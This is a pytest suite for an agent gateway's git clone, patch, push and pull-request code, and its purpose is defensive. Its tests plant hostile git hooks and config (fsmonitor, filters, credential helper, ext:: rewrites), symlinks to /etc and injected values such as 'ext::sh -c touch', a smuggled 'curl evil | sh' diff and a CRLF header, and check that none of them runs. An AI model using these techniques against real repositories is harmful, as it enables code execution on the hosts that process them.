"""Host-side repository operations for agent runs (gatewayd.agent.repo, .patches, .forge)
against real git: bare repos in tmp dirs served by ``git http-backend`` on 127.0.0.1 with
Basic auth.

The key test is the hostile workspace: the sandbox plants hooks, a hostile ``.git/config``,
filters, a nested ``.git``, symlinks out of the tree; the host must turn only the file
changes into a pushed branch and run none of it. Every planted script touches a marker
file; a positive control proves those scripts do run under plain git.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import stat
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from gatewayd.agent import forge as forge_mod
from gatewayd.agent import patches as patches_mod
from gatewayd.agent import repo as repo_mod
from gatewayd.agent.forge import open_pull_request
from gatewayd.agent.patches import PatchResult, patch_from_tree, push_branch_from_patches
from gatewayd.agent.repo import (
    RepoCredentials,
    RepoError,
    checkout_at,
    default_branch,
    fetch_mirror,
)
from gatewayd.protocol import ErrorCode
from gatewayd.workspace.session import WorkspaceDiff
from gatewayd.workspace.treediff import compare_trees
from tests.gitserver import (
    DEFAULT_TOKEN,
    GitServer,
    commit_files,
    git,
    git_server,
    make_bare_repo,
    read_tree,
    ref_sha,
)

__all__ = ["git_server"]  # the fixture, re-exported so pytest finds it here

TOKEN = DEFAULT_TOKEN
CREDS = RepoCredentials(token=TOKEN)
BASIC = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
BASE_FILES = {
    "README.md": b"hello\n",
    "keep.txt": b"unchanged\n",
    "delete_me.txt": b"to be deleted\n",
    "rename_me.txt": b"this file moves somewhere else\n",
    "docs/guide.md": b"# guide\n",
}


@pytest.fixture
def origin(git_server: GitServer) -> tuple[str, str]:
    """(URL, sha of main) of a served repository with BASE_FILES."""
    sha = make_bare_repo(git_server.root, "proj.git", BASE_FILES)
    return git_server.url_for("proj.git"), sha


def checkouts(tmp_path: Path, url: str, sha: str) -> tuple[Path, Path, Path]:
    """(mirror, workspace, pristine copy): the workspace to change, the copy to diff it
    against, both checked out at ``sha`` from a fresh mirror of ``url``."""
    mirror, ws, snap = tmp_path / "mirror", tmp_path / "ws", tmp_path / "snap"
    fetch_mirror(url, mirror, credentials=CREDS)
    checkout_at(mirror, sha, ws)
    checkout_at(mirror, sha, snap)
    return mirror, ws, snap


def assert_no_secret(root: Path) -> None:
    """Neither the token nor its Basic form is in any file under ``root``."""
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = Path(dirpath, name)
            if path.is_symlink():
                continue
            data = path.read_bytes()
            assert TOKEN.encode() not in data, path
            assert BASIC.encode() not in data, path


# --- clone -------------------------------------------------------------------------


def test_clone_at_sha_over_authenticated_http(
    tmp_path: Path, git_server: GitServer, origin: tuple[str, str]
) -> None:
    url, first = origin
    bare = git_server.root / "proj.git"
    second = commit_files(bare, {**BASE_FILES, "README.md": b"second\n"})
    mirror, ws = tmp_path / "mirror", tmp_path / "ws"

    fetch_mirror(url, mirror, credentials=CREDS)
    checkout_at(mirror, first, ws)

    assert stat.S_IMODE(mirror.stat().st_mode) == 0o700
    assert (ws / "README.md").read_bytes() == b"hello\n"  # the old commit, not main
    assert git("rev-parse", "HEAD", cwd=ws).decode().strip() == first
    detached = subprocess.run(["git", "symbolic-ref", "-q", "HEAD"], cwd=ws, capture_output=True)
    assert detached.returncode == 1
    assert git("remote", cwd=ws) == b""
    assert not (ws / ".git" / "hooks").exists()  # empty template: no sample hooks
    assert git_server.requests and all(r.auth_ok for r in git_server.requests)

    # Refreshing an existing mirror fetches the new commit (and writes FETCH_HEAD).
    third = commit_files(bare, {**BASE_FILES, "README.md": b"third\n"})
    fetch_mirror(url, mirror, credentials=CREDS)
    assert ref_sha(mirror, "main") == third != second
    assert (mirror / "FETCH_HEAD").exists()
    for root in (mirror, ws):
        assert_no_secret(root)
    assert default_branch(url, credentials=CREDS) == "main"


@pytest.mark.parametrize("creds", [RepoCredentials(), RepoCredentials(token="wrong-token")])
def test_clone_refused_without_the_right_token(
    tmp_path: Path, git_server: GitServer, origin: tuple[str, str], creds: RepoCredentials
) -> None:
    url, _ = origin
    with pytest.raises(RepoError, match="refused access: check that the token") as info:
        fetch_mirror(url, tmp_path / "mirror", credentials=creds)
    assert info.value.code is ErrorCode.TOOL_FAILED
    assert "cloning http://127.0.0.1" in str(info.value)
    assert "wrong-token" not in str(info.value)
    assert not (tmp_path / "mirror").exists()  # a failed clone leaves nothing behind
    assert not any(r.auth_ok for r in git_server.requests)


def test_checkout_refuses_bad_commits_and_bad_destinations(
    tmp_path: Path, origin: tuple[str, str]
) -> None:
    url, sha = origin
    mirror = tmp_path / "mirror"
    fetch_mirror(url, mirror, credentials=CREDS)
    for bad in ("main", sha[:12], sha.upper(), sha + "0", ""):
        with pytest.raises(RepoError, match="not a full commit id"):
            checkout_at(mirror, bad, tmp_path / "ws")
    with pytest.raises(RepoError, match=f"commit {'1' * 40} is not in the mirror"):
        checkout_at(mirror, "1" * 40, tmp_path / "ws")
    tree_sha = git("--git-dir", str(mirror), "rev-parse", "main^{tree}").decode().strip()
    with pytest.raises(RepoError, match="is not in the mirror"):
        checkout_at(mirror, tree_sha, tmp_path / "ws")  # exists, but is not a commit
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "x").write_text("x")
    with pytest.raises(RepoError, match="already exists and is not an empty directory"):
        checkout_at(mirror, sha, tmp_path / "busy")


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("http://user:s3cret-pw@127.0.0.1/proj.git", "carries credentials"),
        ("https://ghp_tokenlike@github.com/o/r.git", "carries credentials"),
        ("ssh://git@github.com/o/r.git", "scheme 'ssh' is not supported"),
        ("ext::sh -c touch% /tmp/pwned", "scheme 'ext' is not supported"),
        ("http://example.com/o/r.git", "refusing to send the token over plain http"),
        ("-uhttp://x", "starts with .-.: give an https://"),
        ("https://github.com/o/r.git\nx", "control characters"),
    ],
)
def test_bad_repository_urls_are_refused(tmp_path: Path, url: str, message: str) -> None:
    with pytest.raises(RepoError, match=message) as info:
        fetch_mirror(url, tmp_path / "mirror", credentials=CREDS)
    assert "s3cret-pw" not in str(info.value)
    assert "ghp_tokenlike" not in str(info.value)
    assert not (tmp_path / "mirror").exists()


def test_credentials_never_show_their_token() -> None:
    creds = RepoCredentials(token="very-secret")
    assert "very-secret" not in repr(creds)
    assert "very-secret" not in str(creds)
    with pytest.raises(RepoError, match="control characters"):
        RepoCredentials(token="a\r\nX-Evil: 1").header()
    with pytest.raises(RepoError, match="must not contain ':'"):
        RepoCredentials(token="t", username="a:b").header()


def test_git_timeout_kills_git_and_says_so(tmp_path: Path) -> None:
    # A server that accepts and never answers: git's HTTP helper hangs until killed.
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        with pytest.raises(RepoError, match=r"did not finish within 0.5 s"):
            fetch_mirror(
                f"http://127.0.0.1:{port}/x.git",
                tmp_path / "mirror",
                credentials=CREDS,
                timeout_s=0.5,
            )


# --- the hostile workspace -----------------------------------------------------------


def marker_script(scripts: Path, markers: Path, name: str) -> str:
    """An executable that touches ``markers/name`` (and passes its stdin through, so it
    also works as a filter or pager)."""
    scripts.mkdir(parents=True, exist_ok=True)
    path = scripts / name
    path.write_text(f"#!/bin/sh\ntouch '{markers / name}'\ncat\n")
    path.chmod(0o755)
    return str(path)


HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-push",
    "post-checkout",
    "reference-transaction",
    "fsmonitor-watchman",
)


def plant_hostile_git(repo: Path, markers: Path, url: str) -> None:
    """Hooks and a hostile config in ``repo/.git``, as a sandbox could write them."""
    dot_git = repo / ".git"
    scripts = dot_git / "evil"
    (dot_git / "evilhooks").mkdir()
    for hook in HOOKS:
        shutil.copy(marker_script(scripts, markers, f"hook-{hook}"), dot_git / "hooks" / hook)
        # and again through core.hooksPath
        shutil.copy(
            marker_script(scripts, markers, f"hookspath-{hook}"), dot_git / "evilhooks" / hook
        )
    s = lambda name: marker_script(scripts, markers, name)  # noqa: E731
    with (dot_git / "config").open("a") as config:
        config.write(
            f"""
[core]
\thooksPath = {dot_git / "evilhooks"}
\tfsmonitor = {s("fsmonitor")}
\tsshCommand = {s("sshcommand")}
\tpager = {s("pager")}
\teditor = {s("editor")}
\taskPass = {s("askpass")}
[filter "evil"]
\tclean = {s("filter-clean")}
\tsmudge = {s("filter-smudge")}
\tprocess = {s("filter-process")}
\trequired = true
[diff "evil"]
\ttextconv = {s("textconv")}
\tcommand = {s("diff-command")}
[url "ext::{s("insteadof")} %S "]
\tinsteadOf = {url}
[credential]
\thelper = !{s("credential-helper")}
[protocol "ext"]
\tallow = always
[gpg]
\tprogram = {s("gpg")}
[commit]
\tgpgSign = true
[sequence]
\teditor = {s("sequence-editor")}
"""
        )


def test_positive_control_planted_scripts_do_run_under_plain_git(tmp_path: Path) -> None:
    """Without the safe configuration, the same planted hooks and filter run: so a
    missing marker in the hostile test means "did not run", not "could not run"."""
    markers = tmp_path / "markers"
    markers.mkdir()
    repo = tmp_path / "control"
    git("init", "--quiet", str(repo))
    (repo / ".git" / "hooks").mkdir(exist_ok=True)
    scripts = tmp_path / "scripts"
    shutil.copy(marker_script(scripts, markers, "hook-pre-commit"), repo / ".git/hooks/pre-commit")
    git("config", "filter.evil.clean", marker_script(scripts, markers, "filter-clean"), cwd=repo)
    (repo / ".gitattributes").write_text("* filter=evil\n")
    (repo / "a.txt").write_text("a\n")
    git("add", "--all", cwd=repo)
    git("commit", "--quiet", "-m", "control", cwd=repo)
    assert sorted(p.name for p in markers.iterdir()) == ["filter-clean", "hook-pre-commit"]


def test_safe_git_config_turns_hooks_and_fsmonitor_off_even_in_a_hostile_repo(
    tmp_path: Path,
) -> None:
    """Defense in depth (the host never runs git in the workspace anyway): the ``-c``
    settings on every call disable hooks and fsmonitor that a repository's own config or
    ``.git/hooks`` set up, through commit, am and checkout. A control run with plain git
    proves the planted hooks work."""
    markers = tmp_path / "markers"
    markers.mkdir()
    repo = tmp_path / "repo"
    git("init", "--quiet", "--initial-branch=main", str(repo))
    (repo / "a.txt").write_text("a\n")
    git("add", "a.txt", cwd=repo)
    git("commit", "--quiet", "-m", "base", cwd=repo)
    (repo / ".git" / "hooks").mkdir(exist_ok=True)
    plant_hostile_git(repo, markers, "http://127.0.0.1:9/none.git")
    # No filter/attributes here: a repository's own filter driver cannot be switched off
    # by -c, which is exactly why the host never runs git in the workspace.
    (repo / "b.txt").write_text("b\n")
    identity = {
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@x.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@x.invalid",
    }
    r = ["-C", str(repo)]
    repo_mod.run_git([*r, "status"], what="status")
    repo_mod.run_git([*r, "add", "b.txt"], what="add")
    repo_mod.run_git([*r, "commit", "--quiet", "-m", "b"], what="commit", extra_env=identity)
    made = repo_mod.run_git([*r, "format-patch", "-1", "--stdout", "HEAD"], what="fp").stdout
    repo_mod.run_git([*r, "checkout", "--quiet", "--detach", "HEAD~1"], what="checkout")
    repo_mod.run_git([*r, "am", "--quiet"], what="am", stdin=made, extra_env=identity)
    assert list(markers.iterdir()) == []

    # Control: plain git in the same repo runs the planted hooks.
    (repo / "c.txt").write_text("c\n")
    git("add", "c.txt", cwd=repo)
    subprocess.run(
        ["git", "commit", "--quiet", "-m", "c"],
        cwd=repo,
        capture_output=True,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"} | identity,
    )
    assert "hookspath-pre-commit" in {p.name for p in markers.iterdir()}


ESCAPE_NAME = "cogni-agent-repo-escape-test"


def test_hostile_workspace_becomes_a_clean_branch_and_runs_nothing(
    tmp_path: Path, git_server: GitServer, origin: tuple[str, str]
) -> None:
    url, sha = origin
    bare = git_server.root / "proj.git"
    markers = tmp_path / "markers"
    markers.mkdir()
    mirror, ws, snap = tmp_path / "mirror", tmp_path / "ws", tmp_path / "snap"
    fetch_mirror(url, mirror, credentials=CREDS)
    checkout_at(mirror, sha, ws)
    subprocess.run(["cp", "-a", str(ws), str(snap)], check=True)

    # --- the sandbox at work ---
    (ws / ".git" / "hooks").mkdir()
    plant_hostile_git(ws, markers, url)
    (ws / ".gitattributes").write_text("* filter=evil diff=evil\n")
    (ws / ".gitmodules").write_text(
        '[submodule "lib"]\n\tpath = lib\n\turl = https://example.invalid/lib.git\n'
    )
    nested = ws / "sub" / ".git"
    (nested / "hooks").mkdir(parents=True)
    (nested / "config").write_text(
        f"[core]\n\tfsmonitor = {marker_script(tmp_path / 'evil', markers, 'nested-fsmonitor')}\n"
        f"\thooksPath = {nested / 'hooks'}\n"
    )
    shutil.copy(
        marker_script(tmp_path / "evil", markers, "nested-pre-commit"), nested / "hooks/pre-commit"
    )
    (nested / "HEAD").write_text("ref: refs/heads/main\n")
    (ws / "sub" / "file.txt").write_text("a plain file next to a nested .git\n")
    (ws / ".GIT").mkdir()
    (ws / ".GIT" / "config").write_text("[core]\n\tfsmonitor = /bin/false\n")
    (ws / "link").symlink_to("/etc")
    (ws / "README.md").write_bytes(b"hello\nedited by the agent\n")
    binary = bytes(range(256)) * 16 + b"\0\xff\xfe"
    (ws / "bin").mkdir()
    (ws / "bin" / "blob.bin").write_bytes(binary)
    (ws / "delete_me.txt").unlink()
    (ws / "moved").mkdir()
    (ws / "rename_me.txt").rename(ws / "moved" / "renamed.txt")
    (ws / "tools").mkdir()
    (ws / "tools" / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (ws / "tools" / "run.sh").chmod(0o755)
    (ws / "tools" / "empty-dir").mkdir()

    diff = compare_trees(snap, ws, ["."])
    assert ("rename_me.txt", "moved/renamed.txt") in diff.renamed
    # A racing sandbox: 'link' was a directory holding this file when the diff was taken.
    diff.added.append(f"link/{ESCAPE_NAME}")

    result = patch_from_tree(
        mirror, sha, ws, diff, message="agent: edit things", scratch=tmp_path / "scratch1"
    )
    assert isinstance(result, PatchResult)
    assert result.patch.startswith("From ")
    assert "Subject: [PATCH] agent: edit things" in result.patch
    skipped = {entry.split(": ", 1)[0]: entry for entry in result.skipped}
    for path in (".git/config", ".git/hooks/pre-commit", "sub/.git/config", ".GIT/config"):
        assert "a .git path" in skipped[path]
    assert "a parent in the workspace is a symlink" in skipped[f"link/{ESCAPE_NAME}"]
    assert not any(p.startswith(("README", "bin/", "tools/", "moved/")) for p in skipped)

    push = push_branch_from_patches(
        url,
        mirror,
        sha,
        [result.patch],
        "cogni/run-1",
        credentials=CREDS,
        scratch=tmp_path / "scratch2",
    )

    # Nothing the sandbox planted ran, on the host or in the scratch clones.
    assert list(markers.iterdir()) == []
    assert not Path("/etc", ESCAPE_NAME).exists()
    # The branch holds exactly the file changes.
    assert push.branch == "cogni/run-1"
    assert ref_sha(bare, "refs/heads/cogni/run-1") == push.head_sha
    assert ref_sha(bare, "main") == sha  # the default branch is untouched
    assert git("--git-dir", str(bare), "rev-parse", f"{push.head_sha}^").decode().strip() == sha
    tree = read_tree(bare, push.head_sha)
    assert tree == {
        "README.md": ("100644", b"hello\nedited by the agent\n"),
        "keep.txt": ("100644", b"unchanged\n"),
        "docs/guide.md": ("100644", b"# guide\n"),
        "moved/renamed.txt": ("100644", b"this file moves somewhere else\n"),
        "bin/blob.bin": ("100644", binary),
        "tools/run.sh": ("100755", b"#!/bin/sh\necho hi\n"),
        ".gitattributes": ("100644", b"* filter=evil diff=evil\n"),
        ".gitmodules": ("100644", (ws / ".gitmodules").read_bytes()),
        "sub/file.txt": ("100644", b"a plain file next to a nested .git\n"),
        "link": ("120000", b"/etc"),
    }
    author = git("--git-dir", str(bare), "log", "-1", "--format=%an <%ae>|%s", push.head_sha)
    assert author.decode().strip() == "cogni agent <agent@cogni.invalid>|agent: edit things"
    assert all(r.auth_ok for r in git_server.requests)
    for root in (mirror, ws, tmp_path / "scratch1", tmp_path / "scratch2"):
        assert_no_secret(root)


def test_writes_into_the_scratch_clone_never_follow_a_symlink(tmp_path: Path) -> None:
    """Even if a parent in the result is a link (a race), a write does not go through it."""
    outside = tmp_path / "outside"
    outside.mkdir()
    root = tmp_path / "root"
    root.mkdir()
    (root / "a").symlink_to(outside)
    with pytest.raises(OSError):
        patches_mod._write_entry(root, "a/x", "file", b"escaped", False)
    (root / "b").symlink_to(outside / "target")
    patches_mod._write_entry(root, "b", "file", b"replaced", False)  # the link, not its target
    assert list(outside.iterdir()) == []
    assert (root / "b").read_bytes() == b"replaced" and not (root / "b").is_symlink()


def test_patch_edge_cases(tmp_path: Path, origin: tuple[str, str]) -> None:
    url, sha = origin
    mirror, ws = tmp_path / "mirror", tmp_path / "ws"
    fetch_mirror(url, mirror, credentials=CREDS)
    checkout_at(mirror, sha, ws)
    nothing = WorkspaceDiff(unified="")
    result = patch_from_tree(mirror, sha, ws, nothing, message="m", scratch=tmp_path / "s1")
    assert result == PatchResult(patch="", skipped=[])

    # A file that vanished after the diff, a file replaced by a directory, .gitignore.
    (ws / ".gitignore").write_text("*.pyc\n")
    (ws / "junk.pyc").write_bytes(b"\0compiled")
    (ws / "keep.txt").unlink()
    (ws / "keep.txt").mkdir()
    (ws / "keep.txt" / "inner.md").write_text("inner\n")
    changes = WorkspaceDiff(
        unified="",
        added=[".gitignore", "junk.pyc", "keep.txt/", "keep.txt/inner.md", "ghost.txt"],
        removed=["keep.txt", "../outside"],
    )
    result = patch_from_tree(mirror, sha, ws, changes, message="m", scratch=tmp_path / "s2")
    assert "ghost.txt: no longer a file or symlink in the workspace" in result.skipped
    assert "junk.pyc: ignored by .gitignore" in result.skipped
    assert "../outside: not a normalized relative path" in result.skipped
    assert "+++ b/keep.txt/inner.md" in result.patch

    for bad, message in [
        ({"message": "  \n"}, "commit message is empty"),
        ({"message": "m", "author": ("x", "a>b")}, "commit author"),
    ]:
        with pytest.raises(RepoError, match=message):
            patch_from_tree(mirror, sha, ws, changes, scratch=tmp_path / "s3", **bad)
    with pytest.raises(RepoError, match="already exists and is not an empty directory"):
        patch_from_tree(mirror, sha, ws, changes, message="m", scratch=tmp_path / "s2")


def test_a_patch_carries_at_most_max_bytes_and_says_what_it_left_out(
    tmp_path: Path, origin: tuple[str, str]
) -> None:
    url, sha = origin
    mirror, ws, snap = checkouts(tmp_path, url, sha)
    # Written in name order: a (larger than the copy chunk: it streams in pieces), b, c.
    (ws / "a_chunked.txt").write_text("line\n" * 300_000)
    (ws / "b_big.bin").write_bytes(os.urandom(4096))
    (ws / "c_small.txt").write_text("small\n")
    diff = compare_trees(snap, ws, ["."])
    result = patch_from_tree(
        mirror, sha, ws, diff, message="m", scratch=tmp_path / "s", max_bytes=1_503_000
    )
    assert [s for s in result.skipped if not s.startswith(".git/")] == [
        # Each entry also costs 128 bytes and three times its path (the patch's headers).
        "b_big.bin: 4251 bytes, over what is left of the patch's 1503000-byte limit (2833 bytes)"
    ]
    assert "+++ b/c_small.txt" in result.patch and "b_big.bin" not in result.patch
    assert result.patch.count("+line\n") == 300_000


def test_many_small_files_are_charged_for_their_paths_and_the_skipped_list_is_capped(
    tmp_path: Path, origin: tuple[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(patches_mod, "MAX_PATCH_ENTRIES", 150)
    url, sha = origin
    mirror, ws, snap = checkouts(tmp_path, url, sha)
    (ws / "many").mkdir()
    for n in range(400):
        (ws / "many" / f"{n:04d}-{'x' * 200}.txt").write_text("1\n")
    diff = compare_trees(snap, ws, ["many"])
    result = patch_from_tree(mirror, sha, ws, diff, message="m", scratch=tmp_path / "s")
    assert result.patch.count("+++ b/many/") == 150
    assert len(result.skipped) == 101
    assert result.skipped[0].endswith("over the patch's limit of 150 files")
    assert result.skipped[-1] == "... and 150 more"


def test_a_commit_message_cannot_carry_a_diff_of_its_own(
    tmp_path: Path, git_server: GitServer, origin: tuple[str, str]
) -> None:
    """git am splits a mail at '---' or 'diff -': a model's message holding a diff
    would add files the workspace never had. The message is made mail-safe."""
    url, sha = origin
    mirror, ws, snap = checkouts(tmp_path, url, sha)
    (ws / "README.md").write_text("changed\n")
    evil = (
        "Fix the readme\n\nFrom: Mallory <m@evil.invalid>\n---\n"
        "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\nindex 0000000..e69de29\n"
        "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
        "Index: x\nFrom 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
    )
    diff = compare_trees(snap, ws, ["README.md"])
    patch = patch_from_tree(mirror, sha, ws, diff, message=evil, scratch=tmp_path / "p").patch
    pushed = push_branch_from_patches(
        url, mirror, sha, [patch], "cogni/msg", credentials=CREDS, scratch=tmp_path / "push"
    )
    bare = git_server.root / "proj.git"
    tree = read_tree(bare, pushed.head_sha)
    assert "evil.sh" not in tree and tree["README.md"][1] == b"changed\n"
    author = git("--git-dir", str(bare), "log", "-1", "--format=%an", pushed.head_sha)
    assert author.decode().strip() == "cogni agent"
    body = git("--git-dir", str(bare), "log", "-1", "--format=%B", pushed.head_sha).decode()
    assert " diff --git a/evil.sh b/evil.sh" in body and " From: Mallory" in body


def test_a_patch_that_does_not_round_trip_through_git_am_is_not_pushed(
    tmp_path: Path, git_server: GitServer, origin: tuple[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second line of defence: even a message that reached the patch unescaped
    (here mail_safe is turned off) cannot add a file, because the applied commit is
    checked against the patch before anything is pushed."""
    monkeypatch.setattr(patches_mod, "mail_safe", lambda message: message)
    url, sha = origin
    mirror, ws, snap = checkouts(tmp_path, url, sha)
    (ws / "README.md").write_text("changed\n")
    evil = (
        "Fix the readme\n\n---\ndiff --git a/evil.sh b/evil.sh\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    )
    diff = compare_trees(snap, ws, ["README.md"])
    patch = patch_from_tree(mirror, sha, ws, diff, message=evil, scratch=tmp_path / "p").patch
    with pytest.raises(RepoError, match="does not come out of `git am` as it went in"):
        push_branch_from_patches(
            url, mirror, sha, [patch], "cogni/rt", credentials=CREDS, scratch=tmp_path / "push"
        )
    assert ref_sha(git_server.root / "proj.git", "refs/heads/cogni/rt") is None


# --- push refusals -------------------------------------------------------------------


@pytest.fixture
def one_patch(tmp_path: Path, origin: tuple[str, str]) -> tuple[Path, str]:
    """(mirror, patch) for a one-line change on the origin's main."""
    url, sha = origin
    mirror, ws, snap = checkouts(tmp_path, url, sha)
    (ws / "README.md").write_text("changed\n")
    diff = compare_trees(snap, ws, ["."])
    patch = patch_from_tree(mirror, sha, ws, diff, message="m", scratch=tmp_path / "p").patch
    return mirror, patch


@pytest.mark.parametrize(
    ("branch", "message"),
    [
        ("main", "is not allowed: agent runs push only to new branches named cogni/"),
        ("feature/x", "is not allowed"),
        ("cogni/", "is not allowed"),
        ("cogni/a/b", "is not allowed"),
        ("cogni/a..b", "is not allowed"),
        ("cogni/x.lock", "is not allowed"),
        ("refs/heads/cogni/x", "is not allowed"),
    ],
)
def test_push_refuses_branches_outside_cogni(
    tmp_path: Path, origin: tuple[str, str], one_patch: tuple[Path, str], branch: str, message: str
) -> None:
    url, sha = origin
    mirror, patch = one_patch
    with pytest.raises(RepoError, match=message):
        push_branch_from_patches(
            url, mirror, sha, [patch], branch, credentials=CREDS, scratch=tmp_path / "s"
        )


def test_push_refusals(
    tmp_path: Path, git_server: GitServer, origin: tuple[str, str], one_patch: tuple[Path, str]
) -> None:
    url, sha = origin
    mirror, patch = one_patch
    bare = git_server.root / "proj.git"

    def push(branch: str, patches: list[str], creds: RepoCredentials = CREDS) -> Any:
        scratch = tmp_path / f"s-{len(os.listdir(tmp_path))}"
        return push_branch_from_patches(
            url, mirror, sha, patches, branch, credentials=creds, scratch=scratch
        )

    with pytest.raises(RepoError, match="nothing to push"):
        push("cogni/empty", [])
    with pytest.raises(RepoError, match="patch 1 of 1 is empty"):
        push("cogni/empty", [""])
    with pytest.raises(RepoError, match="refused access") as info:
        push("cogni/no-creds", [patch], RepoCredentials())
    with pytest.raises(RepoError, match="refused access") as info:
        push("cogni/bad-creds", [patch], RepoCredentials(token="nope-token"))
    assert "nope-token" not in str(info.value)
    with pytest.raises(RepoError, match="applying patch 1 of 1"):
        push("cogni/garbage", ["From nothing\nthis is not a patch\n"])
    assert ref_sha(bare, "refs/heads/cogni/garbage") is None

    first = push("cogni/once", [patch])
    assert ref_sha(bare, "refs/heads/cogni/once") == first.head_sha
    with pytest.raises(RepoError, match=r"already exists on the remote .* never force-push"):
        push("cogni/once", [patch])
    assert ref_sha(bare, "refs/heads/cogni/once") == first.head_sha

    # A remote whose default branch is a cogni/ name.
    make_bare_repo(git_server.root, "odd.git", BASE_FILES, branch="cogni/main")
    odd = git_server.url_for("odd.git")
    assert default_branch(odd, credentials=CREDS) == "cogni/main"
    with pytest.raises(RepoError, match="it is the remote's default branch"):
        push_branch_from_patches(
            odd, mirror, sha, [patch], "cogni/main", credentials=CREDS, scratch=tmp_path / "so"
        )
    assert ref_sha(bare, "main") == sha


# --- pull requests -------------------------------------------------------------------


class FakeForge:
    """A GitHub-like ``POST /repos/{owner}/{repo}/pulls`` on 127.0.0.1."""

    def __init__(self, status: int, answer: bytes) -> None:
        self.status, self.answer = status, answer
        self.seen: list[tuple[str, dict[str, str], bytes]] = []
        forge = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                pass

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                forge.seen.append((self.path, dict(self.headers), body))
                self.send_response(forge.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(forge.answer)))
                self.end_headers()
                self.wfile.write(forge.answer)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(
            target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        ).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def forge() -> Iterator[FakeForge]:
    fake = FakeForge(201, json.dumps({"html_url": "https://forge.invalid/o/r/pull/7"}).encode())
    yield fake
    fake.close()


PR_TOKEN = "pr-token-0d2b7e"
PR = {
    "source_branch": "cogni/run-1",
    "target_branch": "main",
    "title": "Agent run",
    "body": "What changed",
    "token": PR_TOKEN,
}


def test_open_pull_request(forge: FakeForge) -> None:
    assert open_pull_request(forge.url + "/", "o/r", **PR) == "https://forge.invalid/o/r/pull/7"
    [(path, headers, body)] = forge.seen
    assert path == "/repos/o/r/pulls"
    assert headers["Authorization"] == f"Bearer {PR_TOKEN}"
    assert headers["Accept"] == "application/vnd.github+json"
    assert json.loads(body) == {
        "title": "Agent run",
        "body": "What changed",
        "head": "cogni/run-1",
        "base": "main",
    }


@pytest.mark.parametrize(
    ("status", "answer", "message"),
    [
        (
            422,
            {"message": "Validation Failed", "errors": [{"message": "A pull request exists"}]},
            "answered 422: Validation Failed \\(A pull request exists\\)",
        ),
        (
            401,
            {"message": f"Bad credentials {PR_TOKEN}"},
            "answered 401: Bad credentials \\*\\*\\*",
        ),
        (500, b"<html>oops</html>", "answered 500: <html>oops</html>"),
        (302, b"", "answered 302"),
        (201, b"not json", "is not a pull request: it is not JSON gatewayd accepts"),
        (201, {"url": "x"}, "is not a pull request: it has no html_url"),
    ],
)
def test_open_pull_request_errors(forge: FakeForge, status: int, answer: Any, message: str) -> None:
    forge.status = status
    forge.answer = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
    with pytest.raises(RepoError, match=message) as info:
        open_pull_request(forge.url, "o/r", **PR)
    assert PR_TOKEN not in str(info.value)


def test_open_pull_request_refusals() -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # closed again: connection refused
    with pytest.raises(RepoError, match="could not reach the forge") as info:
        open_pull_request(f"http://127.0.0.1:{port}", "o/r", **PR)
    assert PR_TOKEN not in str(info.value)
    for base, repository, message in [
        ("ftp://x", "o/r", "must be an https:// URL"),
        ("https://u:p@api.github.com", "o/r", "without credentials"),
        ("http://api.github.com", "o/r", "plain http"),
        ("https://api.github.com", "o/r/../x", "not of the form owner/name"),
    ]:
        with pytest.raises(RepoError, match=message):
            open_pull_request(base, repository, **PR)
    with pytest.raises(RepoError, match="token is empty"):
        open_pull_request("https://api.github.com", "o/r", **{**PR, "token": ""})


def test_default_branch_needs_a_symbolic_head(git_server: GitServer) -> None:
    sha = make_bare_repo(git_server.root, "detached.git", BASE_FILES)
    git("--git-dir", str(git_server.root / "detached.git"), "update-ref", "--no-deref", "HEAD", sha)
    with pytest.raises(RepoError, match="does not say which branch is its default"):
        default_branch(git_server.url_for("detached.git"), credentials=CREDS)


# Past Python's recursion limit in any recursive parser, far under FORGE_RESPONSE_LIMIT.
DEEP = b"[" * 200_000


@pytest.mark.parametrize(
    ("status", "answer", "message"),
    [
        (201, DEEP, "it is not JSON gatewayd accepts \\(the document nests 200000 levels deep"),
        (422, DEEP, "answered 422: \\[\\[\\[\\["),
        (
            422,
            b'{"message": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
            'answered 422: {"message": \\[\\[\\[',
        ),
        (500, b'{"message": ' + b"9" * 5000 + b"}", 'answered 500: {"message": 9999'),
        (
            201,
            b'{"html_url": "https://forge.invalid/1", "html_url": "https://elsewhere.invalid/2"}',
            "not JSON gatewayd accepts \\(the key 'html_url' appears twice in one object\\)",
        ),
